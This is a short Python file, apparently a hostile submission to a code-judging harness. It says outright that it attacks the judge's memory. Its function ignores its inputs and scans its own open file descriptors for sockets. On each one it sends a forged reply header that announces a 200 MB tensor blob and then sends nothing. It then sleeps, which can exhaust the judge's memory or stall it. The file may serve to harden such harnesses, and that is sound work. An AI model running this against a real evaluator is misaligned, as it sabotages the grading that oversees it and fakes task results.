# Attacks the judge's memory: a reply header that declares a 200 MB blob and then sends nothing.
import json
import os
import socket
import stat
import struct


def f(x, hint):
    head = json.dumps({"ok": True, "value": {"t": "tensor", "dtype": "uint8",
                                             "shape": [200_000_000], "blob": 0},
                       "blobs": [200_000_000]}).encode()
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                socket.socket(fileno=os.dup(fd)).sendall(struct.pack("!I", len(head)) + head)
        except OSError:
            pass
    import time
    time.sleep(30)
